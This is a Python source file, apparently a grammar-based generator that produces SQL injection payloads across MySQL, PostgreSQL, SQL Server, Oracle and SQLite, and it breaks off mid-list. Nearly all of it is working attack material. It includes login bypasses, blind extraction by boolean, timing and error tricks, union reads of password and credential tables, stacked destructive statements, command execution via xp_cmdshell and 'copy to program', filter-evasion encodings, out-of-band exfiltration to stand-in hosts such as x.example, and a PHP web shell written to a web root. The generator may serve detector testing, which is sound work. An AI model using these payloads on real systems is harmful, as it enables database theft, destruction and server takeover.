"""SQL injection: how the value leaves its place in the statement, what it asks for there, and how it hides the rest.

From the manuals of MySQL, PostgreSQL, SQL Server, Oracle and SQLite. What SQLite can parse is parsed by it: see `parses`.
"""

import random
import re
import sqlite3

from ..grammar import Expansion, Grammar, mixed_case, sometimes

# Where an application puts a value.
PLACES = [
    "select * from t where a = {}",
    "select * from t where (a = {})",
    "select * from t where ((a = {}))",
    "select * from t where a = '{}'",
    "select * from t where (a = '{}')",
    "select * from t where ((a = '{}'))",
    'select * from t where a = "{}"',
    'select * from t where (a = "{}")',
    "select * from t where a like '%{}%'",
    "select * from t where a in ('{}')",
    "select * from t where a = 1 order by {}",
    "select * from t where a = 1 limit {}",
    "insert into t values ('{}', 'x')",
    "insert into t values ({}, 'x')",
    "update t set a = '{}' where b = 1",
    "select * from `{}`",
    "select * from t where a = 'x' and b = '{}'",
]
# What SQLite says of a statement that it cannot read; of unknown tables and functions it only complains.
UNREADABLE = re.compile("syntax error|incomplete input|unrecognized token")
DATABASE = sqlite3.connect(":memory:")


def parses(value: str) -> bool:
    """Whether SQLite reads some statement with the value in it, and the value does not stay what it was meant to be."""
    for place in PLACES:
        for statement in place.format(value).split(";")[:2] if ";" in value else [place.format(value)]:
            try:
                DATABASE.execute("explain " + statement.replace("\0", ""))
            except sqlite3.Error as error:
                if UNREADABLE.search(str(error)):
                    continue
            except (ValueError, sqlite3.Warning):
                continue
            return True
    return False


def blanks(text: str, chance: random.Random) -> str:
    """Blanks of another kind, the same or changing through the value."""
    kinds = [
        "/**/",
        "\t",
        "\n",
        "\r\n",
        "  ",
        "+",
        "\x0b",
        "\x0c",
        "/*x*/",
        "/*!*/",
        "\u00a0",
        "--x\n",
        "#y\n",
        "/**//**/",
        "%20",
        "%09",
        "%0a",
    ]
    one = chance.choice(kinds)
    each = chance.random() < 0.2
    # The blank at the end belongs to the comment that hides the rest.
    body = text.rstrip(" ")
    return re.sub(" ", lambda _: chance.choice(kinds[:6]) if each else one, body) + text[len(body) :]


def dressed(text: str, chance: random.Random) -> str:
    """Case and blanks, in some of the values."""
    draw = chance.random()
    if draw < 0.15:
        return mixed_case(text, chance)
    if draw < 0.3:
        return text.upper()
    if draw < 0.45:
        return blanks(text, chance)
    return text


def hidden_words(text: str, chance: random.Random) -> str:
    """MySQL's conditional comments around keywords."""
    version = chance.choice(["", "50000", "12345", "00000", "40000"])
    return re.sub(
        r"\b(union|select|all|and|or|from|where|sleep|concat)\b",
        lambda m: f"/*!{version}{' ' if not version and chance.random() < 0.3 else ''}{m[0]}*/",
        text,
    )


def string(expansion: Expansion) -> str:
    """A string of a dialect that has many spellings."""
    text = expansion.pick(["a", "x", "admin", "test", "~", "1", "", "secret"])
    forms = [f"'{text}'", f'"{text}"']
    if text:
        digits = text.encode().hex()
        forms += [f"0x{digits}", f"char({','.join(str(b) for b in text.encode())})", f"n'{text}'", f"x'{digits}'"]
        forms += ["||".join(f"chr({b})" for b in text.encode()), "+".join(f"char({b})" for b in text.encode())]
    return expansion.chance.choice(forms)


def columns(expansion: Expansion) -> str:
    """What a union selects: some columns, one of them of worth."""
    filler = expansion.pick(["null", "{}", "'{}'", "0x3{}", "{}", "'a'", "char({})"])
    count = expansion.chance.choice([1, 2, 3, 3, 4, 5, 6, 8, 12, 20])
    cells = [filler.format(at + 1) for at in range(count)]
    if expansion.chance.random() < 0.7:
        cells[expansion.chance.randrange(count)] = expansion.fill("«secret»")
    return expansion.pick([",", ", "]).join(cells)


def random_word(expansion: Expansion) -> str:
    return "".join(expansion.chance.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ") for _ in range(expansion.chance.randint(3, 5)))


def grammars() -> list[Grammar]:
    g = Grammar("sqli")
    g.rule("str", string)
    g.rule("columns", columns)
    g.rule("rnd", random_word)
    g.rule("q", "'", "'", "'", '"')
    # Leaving the place: a number, or a string and what parentheses are open.
    g.rule("num-out", "«n»", "«n»", "-«n»", "«n»)", "«n»))", "0", "1", "-1", "99999", "1.0", "null")
    g.rule("str-out", "'", "'", "'", "«w»'", "1'", "-1'", "')", "'))", "«w»')", "%'", '"', '«w»"', '")', "1')", "x'))", "\\'", "`", "«w»`)")
    g.rule("out", "«num-out»", "«str-out»")
    g.rule("cut", "-- ", "-- -", "--", "#", "/*", "--+", "-- x", ";--", "; -- ", "-- «w»", ";#", ";\0", "%23", "--\t", ";%00")
    g.rule("end", "«cut»", "«cut»", "")
    g.rule("and", "and", "or", "and", "or", "||", "&&", "xor", "and not", "or not")
    g.rule(
        "table",
        "users",
        "«w»s",
        "information_schema.tables",
        "mysql.user",
        "admin",
        "sysobjects",
        "all_tables",
        "sqlite_master",
        "pg_shadow",
        "dual",
        "`user`",
        "[users]",
        "public.users",
        "master..sysdatabases",
        "information_schema.columns",
    )
    g.rule(
        "column",
        "password",
        "pass",
        "name",
        "table_name",
        "column_name",
        "username",
        "sql",
        "email",
        "hash",
        "passwd",
        "«w»",
        "card_number",
    )
    g.rule(
        "where",
        "",
        "",
        " where id=«n»",
        " where username='admin'",
        " limit 1",
        " limit «n»,1",
        " limit 1 offset «n»",
        " where table_schema=database()",
        " where rownum=1",
        " where table_name='users'",
        " where 1=1",
    )
    g.rule(
        "info",
        "@@version",
        "version()",
        "user()",
        "database()",
        "current_user",
        "@@datadir",
        "sqlite_version()",
        "db_name()",
        "current_database()",
        "system_user()",
        "@@hostname",
        "session_user",
        "schema()",
        "banner",
        "host_name()",
        "@@servername",
    )
    g.rule(
        "secret",
        "«info»",
        "«column»",
        "group_concat(«column»)",
        "concat(«column»,0x3a,«column»)",
        "concat_ws(':',«column»,«column»)",
        "«column»||':'||«column»",
        "group_concat(table_name separator 0x3c62723e)",
        "load_file('/etc/passwd')",
        "load_file(0x«h»)",
        "(select «column» from «table»«where»)",
        "hex(«column»)",
        "cast(«column» as char)",
        "string_agg(«column»,',')",
        "listagg(«column»,',')",
        "md5(«n»)",
        "unhex(hex(«info»))",
        "json_arrayagg(«column»)",
    )
    g.rule(
        "query",
        "select «secret» from «table»«where»",
        "select «info»",
        "select «column» from «table»«where»",
        "select count(*) from «table»",
        "select top 1 «column» from «table»",
    )

    # Conditions.
    g.rule(
        "true",
        "«n:a»=«n:a»",
        "'«w:a»'='«w:a»'",
        "«n»<>'«w»'",
        "2>1",
        "1<2",
        "not 1=2",
        "1 like 1",
        "1 between 0 and 2",
        "1 in (1)",
        "'a' like 'a%'",
        "1=1",
        "1=1",
        "''=''",
        "1 is not null",
        "0x31=0x31",
        "1!=2",
        "5<=>5",
        "3*2=6",
        "(1)=(1)",
        "1=(1)",
        "char(97)=char(97)",
        "1 rlike 1",
        "'x' regexp 'x'",
        "true=true",
        "exists(select 1)",
        "2 not in (1)",
        "id=id",
        "null is null",
        "greatest(1,2)=2",
        "1 >= 1",
        "«n:a» = «n:a»",
        '"«w:a»"="«w:a»"',
    )
    g.family("tautology-number", "«num-out» «and» «true»«end»", "«num-out» «and» («true»)«end»", then=dressed)
    g.family(
        "tautology-string",
        "«str-out» «and» «true»«cut»",
        "«str-out» «and» («true»)«cut»",
        "«w»' or '«n:a»'='«n:a»",
        "' or ''='",
        "«w»' and '1'='1",
        '" or "«w:a»"="«w:a»',
        "«w»') or ('«w:a»'='«w:a»",
        "' or 1 «¦or ¦and »'«w:a»'='«w:a»",
        "«w»%' and «n:a»=«n:a» and '%'='",
        "«w»'or'«w:a»'='«w:a»",
        "' or '«w»'<>'«w»",
        "«w»' or '1' like '1",
        "' or 'a' between 'a' and 'b",
        "' or «true» or '",
        then=dressed,
    )
    g.family(
        "tautology-bare-word",
        "«num-out» or true«end»",
        "«num-out» or «n»«end»",
        "«n» and «n»",
        "«n» or «w»",
        "«n» xor «n»",
        "«n» is not null",
        tags=["needs-sink"],
    )
    g.family(
        "string-operators",
        "'«=¦-¦+¦*¦^¦|¦&¦<¦>¦||¦&&¦%¦/¦<>¦!=¦<=>»'",
        "«w»'«=¦-¦+¦*¦^¦|¦&¦||»'",
        "'«=¦-¦+¦*¦^¦|¦&¦<¦>»«n»«cut»",
        "'«=¦-¦+¦*¦^»'«w»",
        "'=0«cut»",
        "' «like¦rlike¦regexp¦div¦mod¦sounds like» '",
        "'-0«cut»",
        "'<2«cut»",
        "'+'«w»'='«w»",
    )
    g.family(
        "login",
        "admin'«cut»",
        "admin' or «true»«cut»",
        "«w»' or username='admin'«cut»",
        "admin')«cut»",
        "admin' or '1'='1",
        "' or 1=1 limit 1«cut»",
        "' or username like '%admin%'«cut»",
        "admin';«cut»",
        "root'«cut»",
        "administrator'«cut»",
        "' or 1=1 order by id desc«cut»",
        "«w»' or id=«n»«cut»",
        "' or role='admin'«cut»",
        "«w»@example.com'«cut»",
        "' or email like '%@%'«cut»",
        "' union select 'admin','«h»'«cut»",
        then=sometimes(mixed_case, 0.1),
    )

    # Reading by questions.
    g.rule(
        "sub",
        "substring(«arg»,«n»,1)",
        "substr((«query»),«n»,1)",
        "mid((«query»),«n»,1)",
        "ascii(substr((«query»),«n»,1))",
        "ord(mid((«query»),«n»,1))",
        "left(«info»,1)",
        "length(«info»)",
        "length((«query»))",
        "ascii(substring((«query») from 1 for 1))",
        "(«query»)",
        "lower(hex(«info»))",
        "char_length(«info»)",
        "len(db_name())",
        "unicode(substring((«query»),1,1))",
        "conv(hex(substr(«info»,1,1)),16,10)",
        "right(«info»,1)",
        "instr(«info»,'a')",
        "locate('a',«info»)",
        "ascii(lower(substring(«info»,1,1)))",
        "bit_length(«info»)",
        "position('a' in «info»)",
        "ifnull(ascii(mid((«query»),1,1)),0)",
    )
    g.rule("arg", "(«query»)", "«info»", "«column»")
    g.rule(
        "question",
        "«sub»=«n»",
        "«sub»>«n»",
        "«sub»='«w»'",
        "«sub»<«n»",
        "«sub» like 'a%'",
        "«sub» regexp '^[a-z]'",
        "«sub» between 65 and 90",
        "«sub» in ('a','b')",
        "exists(«query»)",
        "(select count(*) from «table»)>«n»",
        "«info» like '%5%'",
        "«sub» rlike '^a'",
        "(select 1 from «table» limit 0,1)=1",
        "«sub» glob 'a*'",
        "strcmp(«info»,'x')=1",
        "(select «column» from «table»«where») is not null",
        "(«column»,1)>((select «column» from «table»),1)",
        "not exists(«query»)",
        "binary «sub»='a'",
        "«sub»^«n»",
    )
    g.family(
        "boolean-number",
        "«num-out» and «question»«end»",
        "«num-out» or «question»«end»",
        "«num-out» and if(«question»,1,0)«end»",
        "«num-out» and (case when («question») then 1 else 0 end)=1«end»",
        "«num-out» rlike (case when «question» then 1 else 0x28 end)«end»",
        "«n»-if(«question»,1,0)",
        "if(«question»,«n»,«n»)",
        "«n»*(«question»)",
        "(case when «question» then «n» else «n» end)",
        "«n» div («question»)",
        then=dressed,
    )
    g.family(
        "boolean-string",
        "«str-out» and «question»«cut»",
        "«w»' and «question» and '1'='1",
        "«w»' or «question» or 'a'='b",
        "'+(case when «question» then 'a' else 'b' end)+'",
        "«w»'||(case when «question» then '' else 'x' end)||'",
        "'-(«question»)-'",
        "'^(«question»)^'",
        "«w»' and if(«question»,1,0) and '«w:a»'='«w:a»",
        '«w»" and «question» and "1"="1',
        "«w»') and «question» and ('1'='1",
        "«w»' and (select iif(«question»,1,1/0))=1«cut»",
        "'||nullif(«question»,0)||'",
        then=dressed,
    )

    # Reading by the clock.
    g.rule(
        "wait",
        "sleep(«n»)",
        "sleep(5)",
        "benchmark(«n»000000,md5(1))",
        "benchmark(5000000,sha1('a'))",
        "pg_sleep(«n»)",
        "(select pg_sleep(5))",
        "dbms_pipe.receive_message('a',5)",
        "dbms_pipe.receive_message(chr(65)||chr(66),5)",
        "dbms_lock.sleep(5)",
        "(select 1 from pg_sleep(5))",
        "randomblob(500000000)",
        "like('abcdefg',upper(hex(randomblob(500000000/2))))",
        "(select count(*) from generate_series(1,5000000))",
        "(select count(*) from all_users t1,all_users t2,all_users t3,all_users t4)",
        "(select count(*) from information_schema.columns a,information_schema.columns b,information_schema.columns c)",
        "(select * from (select(sleep(5)))«rnd»)",
        "(get_lock('a',5)=1)",
        "(select count(*) from rdb$fields as t1,rdb$types as t2,rdb$collations as t3)",
        "sleepeachrow(3)",
        "(select count(*) from sysusers as s1,sysusers as s2,sysusers as s3,sysusers as s4)",
        "regexp_substring(repeat(right(char(9981),0),500000000),null)",
        "pg_sleep(5)::text",
        "elt(1=1,sleep(5))",
        "make_set(1=1,sleep(5))",
        "if(1=1,sleep(5),0)",
        "if((«question»),sleep(5),0)",
        "(case when («question») then pg_sleep(5) else null end)",
        "utl_inaddr.get_host_address('«w».example.com')",
    )
    g.family(
        "time-number",
        "«num-out» and «wait»«end»",
        "«num-out» or «wait»«end»",
        "«num-out» and «n»=«wait»«end»",
        "(select «wait»)",
        "«wait»",
        "«n»-«wait»",
        "«n» and (select 1 from (select «wait»)«rnd»)",
        "«num-out» || «wait»«end»",
        "«n»*«wait»",
        "if(now()=sysdate(),«wait»,0)",
        "«n»+(select 1 where «wait» is null)",
        "«num-out» union select «wait»«end»",
        then=dressed,
    )
    g.family(
        "time-string",
        "«str-out» and «wait»«cut»",
        "«str-out» or «wait»«cut»",
        "'+«wait»+'",
        "'-«wait»-'",
        "'||«wait»||'",
        "«w»' and «wait» and '«rnd:a»'='«rnd:a»",
        "'xor(if(now()=sysdate(),«wait»,0))xor'z",
        '"xor(if(now()=sysdate(),«wait»,0))or"',
        "'^«wait»^'",
        "«w»' and (select «n» from (select «wait»)«rnd») and '«rnd:a»'='«rnd:a»",
        "«w»')) or «wait»«cut»",
        "'*«wait»*'",
        "«w»' or «wait»='",
        then=dressed,
    )
    g.family(
        "time-stacked",
        "«out»;select «wait»«cut»",
        "«out»; waitfor delay '0:0:«n»'«cut»",
        "«out» waitfor delay '0:0:5'«cut»",
        "«out»;waitfor delay '00:00:05'«cut»",
        "«out»; if («question») waitfor delay '0:0:5'«cut»",
        "«out»;declare @x varchar(99);set @x='0:0:5';waitfor delay @x«cut»",
        "«out»;select case when («question») then pg_sleep(5) else pg_sleep(0) end«cut»",
        "«out»;begin dbms_lock.sleep(5); end;«cut»",
        "«out»;call sleep(5)«cut»",
        "«out»;do sleep(5)«cut»",
        "«out»;perform pg_sleep(5)«cut»",
        "«out»;waitfor time '23:59'«cut»",
        then=dressed,
    )

    # Reading by complaints.
    g.rule(
        "tell",
        "concat(0x7e,(«query»),0x7e)",
        "concat(0x5c,(«query»))",
        "(«query»)",
        "concat(0x3a,«info»)",
        "concat('~',(«query»))",
        "concat(char(126),«info»,char(126))",
        "concat_ws(0x3a,«info»,«info»)",
    )
    g.rule(
        "complaint",
        "extractvalue(1,«tell»)",
        "extractvalue(rand(),«tell»)",
        "updatexml(1,«tell»,1)",
        "updatexml(null,«tell»,null)",
        "exp(~(select * from («query»)a))",
        "gtid_subset(«tell»,1)",
        "gtid_subtract(«tell»,1)",
        "json_keys((select convert((«query») using utf8)))",
        "st_latfromgeohash(«tell»)",
        "polygon((select * from(select * from(«query»)a)b))",
        "multipoint((select * from(«query»)x))",
        "geometrycollection((select * from(select * from(«query»)a)b))",
        "(select 1 from(select count(*),concat((«query»),floor(rand(0)*2))x from information_schema.tables group by x)a)",
        "convert(int,(«query»))",
        "convert(int,@@version)",
        "cast((«query») as int)",
        "cast(«info» as numeric)",
        "cast((chr(126)||(«query»)||chr(126)) as numeric)",
        "1=(«query»)",
        "ctxsys.drithsx.sn(1,(«query»))",
        "utl_inaddr.get_host_name((«query»))",
        "(select upper(xmltype(chr(60)||chr(58)||(«query»)||chr(62))) from dual)",
        "xmltype((«query»))",
        "extractvalue(xmltype('<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://a.example/\">%x;]>'),'/l')",
        "dbms_xdb_version.checkin((«query»))",
        "ordsys.ord_dicom.getmappingxpath((«query»),'a','b')",
        "(select 1 union select 2 union select (1/0))",
        "row(1,1)>(select count(*),concat(«info»,0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)",
        "name_const(«info»,1)",
        "(select * from (select name_const(version(),1),name_const(version(),1))a)",
        "abs(-9223372036854775808)",
        "json_extract('[1]',(«query»))",
        "uuid_to_bin((«query»))",
        "query_to_xml('«query»',true,true,'')",
        "db_name(0+(«query»))",
        "file_name((«query»))",
        "case when «question» then 1/0 else 1 end",
        "to_number((«query»))",
        "cume_dist(1) within group(order by («query»))",
        "dbms_utility.sqlid_to_sqlhash((«query»))",
        "(«query»)::int",
        "fn_my_permissions((«query»),'x')",
        "suser_name((«query»))",
    )
    g.family(
        "error-number",
        "«num-out» and «complaint»«end»",
        "«num-out» or «complaint»«end»",
        "«complaint»",
        "«n»-«complaint»",
        "«num-out» and «n»=«complaint»«end»",
        "(select «complaint»)",
        "«n» in («complaint»)",
        "«num-out» having «complaint»«end»",
        "«n»,«complaint»",
        "«n» procedure analyse(«complaint»,1)«end»",
        then=dressed,
    )
    g.family(
        "error-string",
        "«str-out» and «complaint»«cut»",
        "«str-out» or «complaint»«cut»",
        "'+«complaint»+'",
        "'||«complaint»||'",
        "«w»' and «complaint» and '1'='1",
        "' and 1=«complaint» and '1'='1",
        "«w»' or «complaint» or ''='",
        "'-«complaint»-'",
        "«w»') and «complaint»«cut»",
        then=dressed,
    )

    # Reading by union.
    g.rule(
        "union",
        "union select",
        "union select",
        "union all select",
        "union all select",
        "union distinct select",
        "union distinctrow select",
        "union select all",
        "union select distinct",
        "intersect select",
        "except select",
        "minus select",
        "union (select",
        "union all(select",
    )
    g.rule(
        "from",
        "",
        "",
        "",
        " from «table»«where»",
        " from dual",
        " from (select 1)a",
        " from information_schema.tables where table_schema=database()",
        " from «table» limit «n»,1",
        " into outfile '/var/www/s.php'",
        " from `«w»`.`users`",
        " from{f users}",
        " from «table» having 1=1",
        " from(«table»)",
        " from «table» a join «table» b",
        " order by 1",
        " from users procedure analyse()",
    )
    g.family(
        "union-number",
        "«num-out» union select «columns»«from»«end»",
        "«num-out» union all select «columns»«from»«end»",
        "«num-out» «union» «columns»«from»«end»",
        "«num-out» union(select «columns»«from»)«end»",
        "«num-out» and 1=2 union select «columns»«from»«end»",
        "«num-out» limit 0 union select «columns»«from»«end»",
        "«num-out» order by «n» union select «columns»«end»",
        "«num-out» union select * from (select 1)a join (select 2)b join (select 3)c«end»",
        "«num-out» union values row(1,2)«end»",
        "«num-out» union table users«end»",
        "«num-out» union select 1,2,3 «and» 1=1«end»",
        then=dressed,
    )
    g.family(
        "union-string",
        "«str-out» union select «columns»«from»«cut»",
        "«str-out» union all select «columns»«from»«cut»",
        "«str-out» «union» «columns»«from»«cut»",
        "«w»' union select «columns» and '1'='1",
        "«w»' and 1=2 union select «columns»«from»«cut»",
        "«w»' union select «columns»,'",
        "«w»' union (select «columns»«from») union select '1",
        then=dressed,
    )
    g.family(
        "union-disguised",
        "«num-out» union select «columns»«from»«end»",
        "«str-out» union all select «columns»«from»«cut»",
        "«num-out» and «question»",
        then=hidden_words,
    )
    g.family(
        "union-no-blank",
        "«n»union(select(«n»),(«info»))",
        "'union(select(1),(2),(3)from(users))«cut»",
        "'union(select'1','2')«cut»",
        "«n».union select «columns»",
        "«n».0union select «columns»",
        "«n»e0union select «columns»",
        "\\Nunion select «columns»",
        "'union/**/select/**/«columns»«cut»",
        "1.e union select «columns»",
        "«n»'union%a0select 1,2«cut»",
        "1%0bunion%0bselect%0b«columns»",
        "'union select@1,@2«cut»",
        "'union select-1,!1«cut»",
        "'union select`«column»`from`users`«cut»",
        "-1e1union-- x\nselect«n»",
        "(0)union(select(«info»))",
        "'union all select~1,~2«cut»",
        '-1"union"select"1',
        "1/**/union/*x*/all/**/select/**/«columns»",
    )
    g.family(
        "scientific-blank",
        "1.e(ascii 1.e(substring(1.e(«query»),1 1.e,1 1.e)1.e)1.e)=1",
        "' 1.e.or 1.e(1)=1«cut»",
        "1 1.e.union 1.e.select 1,2",
        "«n» or 1.e(1)1.e=1",
        "' or 1.e(1)=1.e(1)«cut»",
    )

    # Other clauses.
    g.family(
        "order-by",
        "«out» order by «n»«cut»",
        "«out» order by «n»,«n»,«n»«cut»",
        "«out» group by «n»«cut»",
        "«out» group by «column» having «true»«cut»",
        "«out» having 1=1«cut»",
        "«out» order by rand()«cut»",
        "«out» group by concat(«info»,floor(rand(0)*2)) having min(0)«cut»",
        "«out» limit 1,1 procedure analyse()«cut»",
        "«out» order by if(«question»,1,2)«cut»",
        "«out» limit 1 into outfile '/tmp/x'«cut»",
        "«out» into @a,@b«cut»",
        "«out» order by («query»)«cut»",
        "«out» for update«cut»",
        "«out» lock in share mode«cut»",
        "«out» group by grouping sets(«column»)«cut»",
        then=dressed,
    )
    g.family(
        "sort-parameter",
        "(select «n» from (select «wait»)«rnd»)",
        "(case when («question») then id else price end)",
        "if(«question»,id,price)",
        "«column»,(«query»)",
        "«column»,«complaint»",
        "«column» rlike (select (case when «question» then 1 else 0x28 end))",
        "(select 1/(case when «question» then 1 else 0 end))",
        "iif(«question»,id,price)",
        "«column» asc,(select «wait»)",
        "«n»,(select 1 from (select «wait»)x)",
        "«column» limit 1 offset («query»)",
        "decode(«question»,1,id,price)",
        "case «sub» when 1 then id else price end",
        then=dressed,
    )
    g.family(
        "no-blanks",
        "'or(1)=(1)or'",
        "'or(«n:a»)=(«n:a»)«cut»",
        "'||(select(1)from(dual))||'",
        "«n»)and(1)=(1",
        "'or(select(1))='1",
        "'and(«question»)and'1",
        "(select(«info»))",
        "'or!1=2«cut»",
        "'or~1«cut»",
        "'||1«cut»",
        "'&&1='1",
        "'or+1=1«cut»",
        "'or-1=-1«cut»",
        "'or@@version«cut»",
        '\'or"a"="a',
        "1or(1=1)",
        "1&&1=1",
        "1||1=1",
        "'=''or'",
        "'or''='",
        "'or''like'",
        "'or(true)«cut»",
        "«n»or«n»=«n»",
        "'or/**/1«cut»",
        "'or(length(«info»)>0)«cut»",
        "if(«question»,1,0)",
        "'and(select(sleep(5)))«cut»",
        "'or(ascii(substr((«query»),1,1)))>«n»«cut»",
    )
    g.family(
        "json-operators",
        "«str-out» or json_extract('{\"a\":1}','$.a')=1«cut»",
        "«str-out» or '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb«cut»",
        '«str-out» or \'{"b":2}\'::jsonb <@ \'{"a":1,"b":2}\'::jsonb«cut»',
        '«out» or json_length("[]")<=1«end»',
        "«out» or json_value('{\"a\":1}','$.a')=1«end»",
        "«out» or isjson('{}')=1«end»",
        "«out» or '{\"a\":2}'->'$.a'=2«end»",
        "«out» or json_depth('{}')!=0«end»",
        "«out» or '{\"a\":1}' ? 'a'«cut»",
        "«out» or '{\"a\":1}'::jsonb ? 'a' and «question»«cut»",
        "«out» or json_type('[]')='ARRAY'«end»",
        "«out» and data->>'$.x' = 'y' or 1=1«end»",
        "«out» or '[1,2]'::jsonb -> 0 = '1'«cut»",
        "«out» or json_array(1)->'$[0]'=1«end»",
    )
    g.family(
        "mysql-oddities",
        "«out» or @a:=1«end»",
        "«out» or {ts '2000-01-01 00:00:00'}«end»",
        "«out» or {f 1}=1«end»",
        "«out» and «column» sounds like 'a'«cut»",
        "«out» or match(a) against('x' in boolean mode)«cut»",
        "«out» or 'a' collate latin1_general_cs = 'a'«cut»",
        "«out» or _utf8'a'='a'«cut»",
        "«out» or 1 regexp 1«end»",
        "«out» or (select 1)=1«end»",
        "«out» or 1 div 1«end»",
        "'-''«cut»",
        "«out» or binary 'a'='A'«cut»",
        "«out» handler users open«cut»",
        "«out» or row(1,2)=row(1,2)«end»",
        "«out» or interval(1,1)=1«end»",
        "«out» and 1=2 or (select @a:=«column» from users limit 1)«end»",
        "'|1«cut»",
        "' or 0b1«cut»",
        "«n» or 1 mod 2«end»",
        "'or binary 1«cut»",
        "' or 1 -- '",
        "«out» or 0=0 #«w»",
        "«out» and 1=if(1=1,1,0)#",
    )

    # Statements of one's own.
    g.rule(
        "statement",
        "drop table «table»",
        "drop table if exists «w»",
        "drop database «w»",
        "insert into users values ('a','b')",
        "insert into users(«column») values('«w»')",
        "update users set «column»='«w»'",
        "update users set role='admin' where id=«n»",
        "delete from «table»",
        "delete from users where 1=1",
        "truncate table «w»",
        "exec xp_cmdshell 'whoami'",
        "exec master..xp_cmdshell 'ping 10.0.0.1'",
        "exec master.dbo.xp_dirtree '\\\\10.0.0.1\\x'",
        "exec sp_configure 'show advanced options',1",
        "exec('sel'+'ect 1')",
        "declare @s varchar(8000);set @s=0x«h»;exec(@s)",
        "declare @q nvarchar(99) select @q=0x«h» exec(@q)",
        "create user a identified by 'b'",
        "create table x(a text)",
        "create or replace function system(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' language c strict",
        "copy x from program 'id'",
        "copy (select '') to program 'id'",
        "copy users to '/tmp/x'",
        "alter table users add x int",
        "alter user postgres with password 'x'",
        "shutdown",
        "shutdown with nowait",
        "set @a=0x«h»;prepare s from @a;execute s",
        "prepare s from concat('sel','ect 1');execute s",
        "attach database '/var/www/x.php' as x",
        "load data infile '/etc/passwd' into table x",
        "select lo_import('/etc/passwd')",
        "do $$ begin perform pg_sleep(5); end $$",
        "execute immediate 'select 1'",
        "begin execute immediate 'grant dba to x'; end;",
        "grant all on *.* to 'x'@'%'",
        "call sys.sp('«w»')",
        "exec sp_oacreate 'wscript.shell',@o out",
        "exec sp_makewebtask '\\\\h\\s','select 1'",
        "reconfigure",
        "bulk insert x from 'c:\\boot.ini'",
        "create trigger a after insert on b for each row set c=1",
        "select * from «table»",
        "«query»",
        "show tables",
        "handler users open as a",
        "use mysql",
        "rename table a to b",
        "merge into a using b on (1=1) when matched then update set x=1",
        "replace into users values(1,'a')",
        "set global general_log='on'",
        "backup database x to disk='\\\\h\\s\\x'",
        "exec xp_regread 'HKEY_LOCAL_MACHINE','a','b'",
        "select load_extension('\\\\h\\x')",
        "pragma writable_schema=1",
        "alter login sa enable",
        "exec sp_addlogin 'a','b'",
        "revoke all on a from b",
        "comment on table a is 'x'",
        "kill «n»",
        "dbcc addextendedproc('a','b')",
    )
    g.family("stacked-number", "«num-out»;«statement»«end»", "«num-out»; «statement»;«end»", "«num-out» ; «statement»«cut»", then=dressed)
    g.family(
        "stacked-string",
        "«str-out»;«statement»«cut»",
        "«str-out»; «statement»;«cut»",
        "«w»'; «statement»; select '1",
        "«w»';«statement»;'",
        then=dressed,
    )
    g.family(
        "insert-update",
        "«w»',(«query»))«cut»",
        "«w»','«w»',«complaint»)«cut»",
        "«w»', password='«w»' where username='admin'«cut»",
        "'+(«query»)+'",
        "'||(«query»)||'",
        "«n»),(«n»,(«query»))«cut»",
        "«w»'),('a',(«query»))«cut»",
        "«w»') on duplicate key update password='x'«cut»",
        "«w»', role='admin",
        "«n», «column»=(«query»)",
        "«w»',(select «wait»),'x')«cut»",
        "'+conv(hex(substr((«query»),1,6)),16,10)+'",
        "«w»' where 1=1«cut»",
        "«w»'||(«query»)",
        "concat((«query»),'x')",
        then=dressed,
    )
    g.family(
        "out-of-band",
        "«out» and load_file(concat('\\\\\\\\',(«query»),'.x.example\\\\a'))«cut»",
        "«out» union select load_file('\\\\\\\\x.example\\\\a')«cut»",
        "«out»||utl_http.request('http://x.example/'||(«query»))«cut»",
        "«out» and (select httpuritype('http://x.example/'||(«query»)).getclob() from dual) is not null«cut»",
        "«out»;exec master..xp_dirtree '//x.example/a'«cut»",
        "«out» union select 1,2 into outfile '/var/www/html/s.php'«cut»",
        "«out» union select '<?php system($_GET[1]);?>' into dumpfile '/var/www/s.php'«cut»",
        "«out» and exists(select * from fn_xe_file_target_read_file('c:\\*.xel','\\\\x.example\\a',null,null))«cut»",
        "«out»;select * from openrowset('sqloledb','x.example';'sa';'p','select 1')«cut»",
        "«out»;select dblink_connect('host=x.example user='||(«query»))«cut»",
        "«out» into outfile '/tmp/x' lines terminated by 0x«h»«cut»",
        "«out» union select pg_read_file('/etc/passwd')«cut»",
        "«out» and utl_inaddr.get_host_address((«query»)||'.x.example') is null«cut»",
        "«out» union select * from pg_ls_dir('/')«cut»",
        "(select load_file('/etc/passwd'))",
        "«out»;copy (select 1) to program 'nslookup x.example'«cut»",
        then=dressed,
    )
    g.family(
        "nested",
        "(«query»)",
        "«n»+(«query»)",
        "(select * from(select(«info»))a)",
        "«n» in («query»)",
        "«n»=any(«query»)",
        "«n»>all(«query»)",
        "«w»' in («query»)«cut»",
        "' = any(«query»)«cut»",
        "exists(«query»)",
        "«n» not in («query»)",
        "«n»||(«query»)",
        then=dressed,
    )
    g.family(
        "scanner",
        "«n») and «n:a»=«n:a» and («n:b»=«n:b»",
        "«n»' and «n:a»=«n:a» and '«rnd:a»'='«rnd:a»",
        "«n»%' and «n:a»=«n:a» and '%'='",
        "«n»') and «n:a»=«n:a» and ('«rnd:a»'='«rnd:a»",
        "«n» and row(«n»,«n»)>(select count(*),concat(0x«h»,(select (elt(«n:a»=«n:a»,1))),0x«h»,floor(rand(0)*2))x from (select 1 union select 2)a group by x)",
        "«n» and extractvalue(«n»,concat(0x5c,0x«h»,(select (elt(«n:a»=«n:a»,1))),0x«h»))",
        "-«n» union all select concat(0x«h»,0x«h»,0x«h»),null,null-- «rnd»",
        "(select concat(0x«h»,(select (elt(«n:a»=«n:a»,1))),0x«h»))",
        "«n»;select sleep(5)#",
        "«n») or «n»=«n»-- «rnd»",
        "«n»' or not «n:a»=«n:a»#",
        "«n» procedure analyse(extractvalue(«n»,concat(0x5c,(benchmark(5000000,md5(0x«h»))))),1)-- «rnd»",
        "«n» and «n:a»=(select upper(xmltype(chr(60)||chr(58)||chr(113)||(select (case when («n:b»=«n:b») then 1 else 0 end) from dual)||chr(62))) from dual)",
        "«n») and «n»=cast((chr(113)||chr(98))||(select (case when («n:b»=«n:b») then 1 else 0 end))::text||(chr(113)) as numeric) and («n:a»=«n:a»",
        '«n»" and sleep(5) and "«rnd:a»"="«rnd:a»',
